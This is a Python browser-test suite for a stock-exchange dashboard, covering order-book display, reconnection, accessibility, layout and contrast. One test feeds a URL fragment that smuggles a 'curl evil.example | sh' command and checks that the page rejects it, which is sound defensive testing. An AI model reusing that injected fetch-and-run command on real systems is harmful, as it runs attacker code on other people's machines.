"""The page by itself: its pure modules, and what it makes of answers that a test invents."""

import json
import unittest

from support import CHARTS, TESTS, Site, browser, layouts

FAKE = (TESTS / "fake_exchange.js").read_text()


SYMBOL = """{"bid_shares": "1", "ask": null, "ask_shares": null, "last_time_us": null, "shares_total": "1", "open_orders": 1,
    "traded_shares": "5", "sequence": 0}"""
TRADE = '{"buy_order": 1, "sell_order": 2, "time_us": 1795256991123456}'


def symbol(name, last=None, trades=0):
    return {**json.loads(SYMBOL), "symbol": name, "bid": last, "last": last, "trades": trades}


def trade(number, price, shares, taker):
    return {**json.loads(TRADE), "id": number, "price": price, "shares": shares, "taker": taker}


class Modules(unittest.TestCase):
    def test_pure_modules(self):
        site = Site()
        self.addCleanup(site.close)
        page = browser().open(site.address + "/test/modules_test.js")
        self.addCleanup(page.close)
        results = page.evaluate("import('/test/modules_test.js').then((module) => module.run())")
        self.assertGreater(len(results), 20)
        for result in results:
            print(f"{'ok' if result['failure'] is None else 'FAILED'}: {result['name']}")
            with self.subTest(result["name"]):
                self.assertIsNone(result["failure"], result["failure"])
        self.assertEqual(page.complaints(), [])


class PageAlone(unittest.TestCase):
    def open(self, fragment="", charts=True, setup="", **more):
        site = Site(charts)
        self.addCleanup(site.close)
        page = browser().open(f"{site.address}/{fragment}", before=FAKE + setup, **more)
        self.addCleanup(page.close)
        if charts and CHARTS.is_file():
            self.addCleanup(lambda: self.assertEqual(page.failed_requests(), []))
        self.addCleanup(lambda: self.assertEqual(page.complaints(), []))
        page.wait_for("document.querySelector('#state').dataset.state !== 'connecting'")
        return page

    def with_symbols(self, *symbols, **more):
        return self.open(setup=f"exchange.symbols = {json.dumps(symbols)};", **more)

    def subscribed(self, page, name):
        page.wait_for(f"exchange.sent.at(-1)?.subscribe === {json.dumps(name)}")

    def test_an_empty_exchange_says_how_to_make_a_symbol(self):
        page = self.open()
        page.wait_for("!document.querySelector('#no-symbols').hidden")
        self.assertIn("exchange-cli create symbol SPY 1=500", page.text("#no-symbols"))
        facts = {"policy": "pool", "threads": "3", "store": "sqlite", "version": "9.9"}
        for fact, value in facts.items():
            page.wait_for_text("#" + fact, value)
        page.wait_for_text("[data-key=connections] .figure", "42")
        self.assertEqual(page.text("[data-key=p99] .figure"), "–")

    def test_the_busiest_symbol_is_shown_and_kept_in_the_address(self):
        page = self.with_symbols(symbol("SPY"), symbol("IBM", "7.5", 9), symbol("KO", "3", 2))
        self.subscribed(page, "IBM")
        self.assertEqual(page.evaluate("location.hash"), "#IBM")
        ground = "getComputedStyle(document.querySelector('#symbols tr.chosen')).backgroundColor"
        chosen_ground = page.evaluate(ground)
        page.click('#symbols a[href="#KO"]')
        self.subscribed(page, "KO")
        self.assertEqual(page.evaluate("exchange.sent.at(-2)"), {"unsubscribe": "IBM"})
        self.assertEqual(
            page.evaluate("document.querySelector('#symbols [aria-current]').textContent"), "KO"
        )
        self.assertEqual(page.evaluate(ground), chosen_ground)  # in rows of either shade
        self.assertNotEqual(
            page.evaluate(
                "getComputedStyle(document.querySelector('#symbols"
                " tr:not(.chosen)')).backgroundColor"
            ),
            chosen_ground,
        )

    def test_book_and_tape_follow_the_stream_with_exact_figures(self):
        page = self.with_symbols(symbol("SPY", "145.67"), fragment="#SPY", still=True)
        self.subscribed(page, "SPY")
        page.evaluate(
            'exchange.snapshot("SPY", 3, [["145.67", "60", 1], ["144", "92233720367.00000001", 2]],'
            ' [["146.5", "0.00000001", 1]])'
        )
        page.wait_for_count(3, "#ladder .level")
        rows = [text.split() for text in page.texts("#ladder .level")]
        self.assertEqual(
            rows,
            [
                ["146.50", "0.00000001", "1", "0.00000001"],
                ["145.67", "60.00000000", "1", "60.00000000"],
                ["144.00", "92,233,720,367.00000001", "2", "92,233,720,427.00000001"],
            ],
        )
        self.assertEqual(page.text("#spread"), "spread 0.83")
        page.evaluate(
            f"""exchange.update("SPY", 4, [["145.67", "0", 0]], [["146.5", "7", 3]],
                          {json.dumps([trade(1, "145.67", "40.5", "sell"), trade(2, "1000.5", "7", "buy")])})"""
        )
        page.wait_for_count(2, "#ladder .level")
        self.assertEqual(
            [text.split()[1:] for text in page.texts("#tape tbody tr")],
            [["▲", "buy", "1,000.50", "7.0"], ["▼", "sell", "145.67", "40.5"]],
        )
        self.assertEqual(page.evaluate("document.title"), "SPY 1,000.5 – Exchange")

    def test_a_gap_in_the_sequence_is_mended_by_a_new_snapshot(self):
        page = self.with_symbols(symbol("SPY"))
        self.subscribed(page, "SPY")
        page.evaluate(
            'exchange.snapshot("SPY", 3, [["1", "60", 1]], []); exchange.sent.length = 0;'
            ' exchange.update("SPY", 5, [["2", "1", 1]], [])'
        )
        self.subscribed(page, "SPY")
        page.evaluate(
            'exchange.update("SPY", 6, [["3", "1", 1]], []);'
            ' exchange.snapshot("SPY", 9, [["4", "1", 1]], []);'
            ' exchange.update("SPY", 10, [["5", "2", 1]], [])'
        )
        page.wait_for_count(2, "#ladder .level")
        self.assertEqual([text.split()[0] for text in page.texts("#ladder .level")], ["5", "4"])

    def test_a_stream_that_breaks_is_opened_again(self):
        page = self.with_symbols(symbol("SPY"))
        self.subscribed(page, "SPY")
        for broken in (
            "exchange.sockets.at(-1).close()",
            "exchange.send('no JSON')",
            "exchange.send('null')",
            "exchange.snapshot('SPY', 1, [['x']], [])",
        ):
            count = page.evaluate("exchange.sockets.length")
            page.evaluate("exchange.sent.length = 0; " + broken)
            page.wait_for(f"exchange.sockets.length === {count} + 1")
            self.subscribed(page, "SPY")
        page.evaluate("""exchange.snapshot("SPY", 1, [["1", "60", 1]], [])""")
        page.wait_for_count(1, "#ladder .level")

    def test_a_symbol_that_is_not_there_yet_is_shown_once_it_is(self):
        page = self.with_symbols(symbol("SPY"), fragment="#NEW")
        self.subscribed(page, "NEW")
        page.evaluate("""exchange.send({type: "error", error: "unknown symbol 'NEW'"})""")
        page.wait_for("!document.querySelector('#book-empty').hidden")
        self.assertIn("exchange-cli create symbol NEW 1=500", page.text("#book-empty"))
        page.evaluate(
            "exchange.sent.length = 0; exchange.symbols ="
            f" {json.dumps([symbol('SPY'), symbol('NEW')])}"
        )
        self.subscribed(page, "NEW")
        page.evaluate("""exchange.snapshot("NEW", 0, [], [])""")
        page.wait_for_part("#book-empty", "There are no bids or offers for NEW")

    def test_an_address_becomes_a_command_only_if_it_names_a_symbol(self):
        for fragment in ("#trade/X;curl%20evil.example%7Csh%20%23", "#A%20B", "#" + "X" * 33):
            with self.subTest(fragment=fragment):
                page = self.with_symbols(symbol("SPY"), fragment=fragment)
                page.wait_for("!document.querySelector('#book-empty').hidden")
                self.assertEqual(
                    page.text("#book-empty"),
                    (
                        "The address does not name a symbol, which is 1 to 32 letters and digits."
                        " Choose one."
                    ),
                )
                self.assertNotIn("exchange-cli create symbol", page.text("#book-empty"))

    def test_what_is_old_is_as_readable_as_before(self):
        """Opacity takes contrast from all texts, whatever their colours."""
        for fragment in ("", "#trade/SPY", "#replay/"):
            page = self.with_symbols(symbol("SPY", "9.5"), fragment=fragment)
            if not fragment.startswith("#replay"):
                self.subscribed(page, "SPY")
                page.evaluate("exchange.snapshot('SPY', 1, [['9', '1', 1]], [])")
                page.wait_for_count(1, "#ladder .level")
            page.evaluate("exchange.down = true; exchange.sockets.at(-1)?.close()")
            page.wait_for_state("away")
            if not fragment.startswith("#replay"):
                page.wait_for("document.querySelector('.panel.book').matches('.waiting')")
            faint = """[...document.querySelectorAll("main *, header *")].filter((one) => one.checkVisibility()
                && !one.closest(":disabled") && !one.matches("input[type=radio]") && !(one instanceof SVGElement)
                && getComputedStyle(one).opacity !== "1").map((one) => one.outerHTML)"""
            self.assertEqual(page.evaluate(faint), [])
            self.assertIn("What is shown is from", page.text("#notice"))
            landmark = "header, nav, main, footer, section[aria-label]"
            self.assertTrue(
                page.evaluate(f"document.querySelector('#notice').matches('{landmark}')")
            )

    def test_tables_drawn_as_grids_are_tables_to_a_screen_reader(self):
        page = self.with_symbols(symbol("SPY"))
        self.subscribed(page, "SPY")
        page.evaluate("exchange.snapshot('SPY', 1, [['9', '1', 1]], [['10', '2', 1]])")
        page.wait_for_count(2, "#ladder .level")
        page.call("Accessibility.enable")
        nodes = page.call("Accessibility.getFullAXTree")["nodes"]
        by_id = {node["nodeId"]: node for node in nodes}

        def roles(node):
            yield node["role"]["value"]
            for child in node.get("childIds", []):
                yield from roles(by_id[child])

        (book,) = (
            node
            for node in nodes
            if node["role"]["value"] == "table" and node["name"]["value"] == "Order book"
        )
        found = list(roles(book))
        self.assertEqual(found.count("columnheader"), 4)
        self.assertGreaterEqual(found.count("row"), 4)
        self.assertGreaterEqual(found.count("cell"), 9)
        # A role there is an error of HTML where the table has none of its own.
        self.assertEqual(
            page.evaluate("document.querySelectorAll(':is(tr, th, td)[role]').length"), 0
        )

    def test_the_first_screen_is_not_filled_by_its_header(self):
        for width, height, most in ((1920, 1080, 55), (1280, 800, 50), (1000, 700, 50)):
            for fragment in ("", "#trade/SPY", "#replay/"):
                with self.subTest(width=width, fragment=fragment):
                    page = self.with_symbols(
                        symbol("SPY"), fragment=fragment, width=width, height=height
                    )
                    page.wait_for("document.querySelector('#uptime').innerText !== '–'")
                    top = page.evaluate("document.querySelector('.top').offsetHeight")
                    self.assertLessEqual(top, most)
        page = self.with_symbols(symbol("SPY"), width=1280, height=800)
        charts = "document.querySelector('#throughput-title').getBoundingClientRect().top"
        self.assertLess(page.evaluate(charts), 600)
        for fragment, most in (("", 95), ("#trade/SPY", 70)):
            page = self.with_symbols(symbol("SPY"), fragment=fragment, width=390, height=844)
            page.wait_for("document.querySelector('#uptime').innerText !== '–'")
            self.assertLessEqual(page.evaluate("document.querySelector('.top').offsetHeight"), most)
        chart = "document.querySelector('#candles').getBoundingClientRect().bottom"
        self.assertLess(page.evaluate(chart), 600)  # the price comes before the ticket
        for hint in page.evaluate(
            "[...document.querySelectorAll('.at-keyboard')].map((one) => one.checkVisibility())"
        ):
            self.assertFalse(hint)

    def test_no_text_of_the_trade_view_is_cut(self):
        for width, height in ((1920, 1080), (1280, 800), (390, 844), (360, 740)):
            with self.subTest(width=width):
                page = self.with_symbols(
                    symbol("SPY"), fragment="#trade/SPY", width=width, height=height
                )
                cut = """(() => {
                  const canvas = document.createElement("canvas").getContext("2d");
                  const placeholders = [...document.querySelectorAll(".trading input[placeholder]")].filter((one) => one.checkVisibility() && (() => {
                    const style = getComputedStyle(one);
                    canvas.font = style.font;
                    const room = one.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight);
                    return canvas.measureText(one.placeholder).width > room;
                  })());
                  const texts = [...document.querySelectorAll("main :is(p, dt, dd, h2, th, button), .top *")].filter((one) =>
                    one.checkVisibility() && !one.closest(".unseen, .facts") && one.scrollWidth > one.clientWidth + 1 && one.clientWidth > 1);
                  return [...placeholders, ...texts].map((one) => one.outerHTML);
                })()"""
                self.assertEqual(page.evaluate(cut), [])

    def test_an_unavailable_store_is_reported(self):
        page = self.open()
        page.evaluate(
            "exchange.metrics = exchange.text({store: 0}); exchange.ready = [503, 'the store is"
            " unavailable']"
        )
        page.wait_for_text("#state", "Store unavailable")
        self.assertIn("Nothing is acknowledged", page.text("#notice"))
        page.evaluate("exchange.metrics = exchange.text(); exchange.ready = [503, 'stopping']")
        page.wait_for_part("#notice", "stopping")
        page.evaluate("exchange.ready = [200, 'ready']")
        page.wait_for("document.querySelector('#notice').hidden")

    def test_figures_that_cannot_be_read_are_called_stale_and_do_no_harm(self):
        page = self.open()
        for odd in (
            "}{ what",
            "",
            'exchange_requests_total NaN\nexchange_info{policy="x" 1',
            "<html>",
        ):
            page.evaluate(f"exchange.metrics = {json.dumps(odd)}")
            page.wait_for_state("stale")
            self.assertIn("cannot be read", page.text("#notice"))
            page.evaluate("exchange.metrics = exchange.text()")
            page.wait_for("document.querySelector('#state').dataset.state !== 'stale'")
        page.evaluate("exchange.symbols = [null, 7, {symbol: 3}, {symbol: 'ODD'}]")
        page.wait_for_count(1, "#symbols tbody tr")

    def test_a_list_of_symbols_that_cannot_be_read_is_called_stale(self):
        page = self.with_symbols(symbol("SPY"))
        self.subscribed(page, "SPY")
        page.evaluate("exchange.snapshot('SPY', 1, [], [])")
        page.wait_for_state("live")
        page.evaluate(
            """window.realFetch = fetch; window.fetch = async (path, more) =>
                (path === "api/symbols" ? new Response("<html>Password?") : realFetch(path, more))"""
        )
        page.wait_for_part("#notice", "list of symbols")
        self.assertEqual(page.text("#symbols tbody tr td"), "SPY")
        page.evaluate("window.fetch = realFetch")
        page.wait_for_state("live")

    @unittest.skipUnless(CHARTS.is_file(), "Chart.js is not installed")
    def test_a_chart_has_no_points_from_before_its_time(self):
        """Chart.js does not update them, so that it would fill from where others were."""
        page = self.open()
        drawn = page.evaluate(
            """import("/charts.js").then(({requestsChart}) => {
              const canvas = document.createElement("canvas");
              document.body.append(canvas);
              const chart = requestsChart(canvas);
              chart.show(Array.from({length: 400}, (_, i) => ({time: i, requests: i})), 400);
              return chart.chart.data.datasets[0].data.map(({x}) => x);
            })"""
        )
        self.assertEqual((drawn[0], drawn[-1], len(drawn)), (-300, -1, 300))

    def test_rates_are_growth_by_time(self):
        page = self.open()
        page.evaluate(
            "setInterval(() => { exchange.counters.requests += 50; exchange.metrics ="
            " exchange.text(); }, 50)"
        )
        page.wait_for(
            "parseInt(document.querySelector('[data-key=requests] .figure').innerText.replace(',',"
            " '')) > 0"
        )
        self.assertRegex(page.text("[data-key=requests] .note"), r"^[\d,]+ in all$")

    def test_hundreds_of_symbols_are_searched_with_few_rows(self):
        page = self.with_symbols(
            *(symbol(f"SYM{number}") for number in range(900)), fragment="#SYM899"
        )
        page.wait_for("document.querySelectorAll('#symbols tbody tr').length > 0")
        self.assertLessEqual(
            page.evaluate("document.querySelectorAll('#symbols tbody tr').length"), 200
        )
        self.assertEqual(
            page.evaluate("document.querySelector('#symbols [aria-current]').textContent"), "SYM899"
        )
        page.evaluate(
            "const search = document.querySelector('#search'); search.value = 'ym77';"
            " search.dispatchEvent(new Event('input'))"
        )
        self.assertEqual(
            page.texts("#symbols tbody a"),
            ["SYM77", *(f"SYM{number}" for number in range(770, 780))],
        )
        page.evaluate("search.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter'}))")
        page.wait_for("location.hash === '#SYM77'")
        self.subscribed(page, "SYM77")

    def test_a_deep_busy_book_keeps_few_rows(self):
        page = self.with_symbols(symbol("SPY"))
        self.subscribed(page, "SPY")
        page.evaluate(
            """const side = (sign) => Array.from({length: 1000}, (_, i) => [String(2000 + sign * (i + 1)), "5", 1]);
                         exchange.snapshot("SPY", 0, side(-1), side(1));
                         for (let i = 1; i <= 2000; ++i) exchange.update("SPY", i, [[String(1999 - i % 900), String(i), 1]], [],
                             [{id: i, price: "2000", shares: String(i), taker: "buy", time_us: 1}])"""
        )
        page.wait_for_text("#tape tbody td:last-child", "2,000")
        self.assertLess(page.evaluate("document.querySelectorAll('#ladder tr').length"), 70)
        self.assertLessEqual(
            page.evaluate("document.querySelectorAll('#tape tbody tr').length"), 40
        )
        self.assertEqual(page.evaluate("exchange.sent.length"), 1)

    def test_nothing_is_asked_while_the_page_is_hidden(self):
        page = self.with_symbols(symbol("SPY"))
        self.subscribed(page, "SPY")
        page.evaluate(
            'Object.defineProperty(document, "hidden", {configurable: true, get: () => true});'
            ' document.dispatchEvent(new Event("visibilitychange"))'
        )
        self.assertEqual(page.text("#state"), "Paused")
        page.wait_for("exchange.sockets.at(-1).readyState === 3")
        asked = page.evaluate("exchange.asked.metrics")
        page.evaluate("new Promise((done) => setTimeout(done, 1500))")
        self.assertEqual(page.evaluate("exchange.asked.metrics"), asked)
        page.evaluate(
            "delete document.hidden; exchange.sent.length = 0; document.dispatchEvent(new"
            " Event('visibilitychange'))"
        )
        self.subscribed(page, "SPY")
        page.wait_for(f"exchange.asked.metrics > {asked}")

    def test_the_theme_is_the_systems_until_chosen_and_then_kept(self):
        page = self.open(dark=True)
        theme = "document.documentElement.dataset.theme"
        self.assertEqual(page.evaluate(theme), "dark")
        page.prefer(dark=False)
        page.wait_for(f"{theme} === 'light'")
        for choice, shown in (("light", "light"), ("dark", "dark")):
            page.click("#theme")
            self.assertEqual(
                [page.evaluate("localStorage.getItem('theme')"), page.evaluate(theme)],
                [choice, shown],
            )
        page.reload()
        page.wait_for(f"{theme} === 'dark'")
        self.assertIn("Dark", page.text("#theme"))

    def test_it_works_without_the_chart_library(self):
        page = self.open(charts=False, setup=f"exchange.symbols = {json.dumps([symbol('SPY')])};")
        self.subscribed(page, "SPY")
        page.evaluate("""exchange.snapshot("SPY", 3, [["145.67", "60", 1]], [])""")
        page.wait_for_count(1, "#ladder .level")

    def test_it_loads_itself_again_where_a_part_of_it_did_not_arrive(self):
        site = Site()
        self.addCleanup(site.close)
        site.missing.add("feed.js")
        page = browser().open(site.address + "/", before=FAKE)
        self.addCleanup(page.close)
        page.wait_for_part("#notice", "did not arrive")
        site.missing.clear()
        page.wait_for("document.querySelector('#state')?.dataset.state === 'live'")

    def test_no_layout_overflows(self):
        long = "X" * 32
        largest = symbol(long, "92233720367.99999999", 5)
        for screen, sizes in layouts():
            page = self.with_symbols(largest, symbol("SPY"), **screen)
            self.subscribed(page, long)
            page.evaluate(
                f"""exchange.snapshot("{long}", 1, [["92233720367.99999998", "92233720367.99999999", 100000]],
                              [["92233720367.99999999", "92233720367.99999999", 100000]],
                              [{{id: 1, price: "92233720367.99999999", shares: "92233720367.99999999", taker: "sell", time_us: 1795256991123456}}])"""
            )
            page.wait_for_count(1, "#tape tbody tr")
            for width, height in sizes:
                with self.subTest(width=width, dark=screen["dark"]):
                    page.wait_for_no_overflow(width, height)
                    if width >= 1600:  # a wall cannot be scrolled
                        page.wait_for(f"document.documentElement.scrollHeight === {height}")

    def test_figures_of_a_busy_exchange_are_not_cut_off(self):
        results = [("order", "ok"), ("order", "insufficient_shares"), ("cancel", "unknown_account")]
        results += [("create_account", "ok"), ("place_shares", "ok"), ("cancel_all", "ok")]
        metrics = "process_cpu_seconds_total 1\nprocess_resident_memory_bytes 99999999\n"
        metrics += "exchange_projection_lag_batches 123456\nexchange_orders_in_memory 1234567\n"
        for kind, result in results:
            metrics += f'exchange_commands_total{{kind="{kind}",result="{result}"}} 123456789\n'
        wide = (
            "[...document.querySelectorAll('.panel, .scroll, .tile, .note, .figures dd, .commands"
            " td:not(.repeated)')].filter((one) => one.scrollWidth > one.clientWidth + 1)"
        )
        for width, height in ((1600, 900), (1280, 720), (390, 844)):
            with self.subTest(width=width):
                setup = f"exchange.metrics += {json.dumps(metrics)};"
                page = self.open(setup=setup, width=width, height=height)
                page.wait_for_count(len(results), "#commands tbody tr")
                self.assertEqual(page.evaluate(f"{wide}.map((one) => one.outerHTML)"), [])
                self.assertGreater(
                    page.evaluate("document.querySelector('#batches').clientHeight"), 70
                )

    def test_the_list_has_the_last_price_of_the_book(self):
        page = self.with_symbols(symbol("SPY", "5.00"), symbol("IBM", "7.5"), fragment="#SPY")
        self.subscribed(page, "SPY")
        page.evaluate(
            'exchange.snapshot("SPY", 3, [["5.5", "1", 1]], [["6.25", "1", 1]],'
            f' [{json.dumps(trade(1, "6.00", "1", "buy"))}])'
        )
        page.wait_for_text("#last", "6.00")
        for _ in range(2):  # also once the list, which is older, has come again
            rows = [text.split() for text in page.texts("#symbols tbody tr")]
            self.assertEqual([["SPY", "6.00"], ["IBM", "7.50"]], [row[:2] for row in rows])
            asked = page.evaluate("exchange.asked['api/symbols']")
            page.wait_for(f"exchange.asked['api/symbols'] > {asked} + 1")

    def test_a_level_that_is_gone_has_no_mark_of_its_change(self):
        page = self.with_symbols(symbol("SPY"), fragment="#SPY")
        self.subscribed(page, "SPY")
        marked = "document.getAnimations().map((one) => one.effect.target.cells[0].textContent)"
        page.evaluate("exchange.snapshot('SPY', 1, [['9', '1', 1]], [])")
        page.wait_for_count(1, "#ladder .level")
        page.evaluate("exchange.update('SPY', 2, [['9', '2', 1]], [])")
        page.wait_for_part("#ladder .level", "2")
        self.assertIn(page.evaluate(marked), (["9"], []))  # it may have faded on a slow machine
        page.evaluate("exchange.update('SPY', 3, [['9', '0', 0]], [])")
        page.wait_for_count(0, "#ladder .level")
        self.assertEqual(page.evaluate(marked), [])

    def test_text_stands_out_from_its_ground(self):
        contrast = """(() => {
          const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
          const rgb = (layers) => {
            canvas.clearRect(0, 0, 1, 1);
            for (const layer of layers) { canvas.fillStyle = layer; canvas.fillRect(0, 0, 1, 1); }
            return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
          };
          const light = (colour) => colour.map((part) => part / 255).map((part) => (part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4))
              .reduce((sum, part, i) => sum + part * [0.2126, 0.7152, 0.0722][i], 0);
          const variable = (name) => getComputedStyle(document.documentElement).getPropertyValue("--" + name);
          return (text, ...grounds) => {
            const [a, b] = [light(rgb([variable(text)])), light(rgb(grounds.map(variable)))];
            return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
          };
        })()"""
        on_bars = ["bid panel bid-total bid-bar", "ask panel ask-total ask-bar"]
        on_bars += [
            f"{text} panel {side}-total {side}-bar"
            for text in ("text", "muted")
            for side in ("bid", "ask")
        ]
        plain = (
            "text panel, muted panel, muted sunk, muted ground, bid panel, ask panel, bid sunk, ask"
            " sunk, good panel, good sunk, "
        )
        plain += (
            "bad panel, bad sunk, warn panel, warn warn-ground, bad bad-ground, panel accent, panel"
            " bid, panel ask"
        )
        for dark in (False, True):
            page = self.open(dark=dark)
            for colours in plain.split(", ") + on_bars:
                with self.subTest(colours=colours, dark=dark):
                    found = page.evaluate(f"{contrast}(...{json.dumps(colours.split())})")
                    self.assertGreaterEqual(found, 4.5)
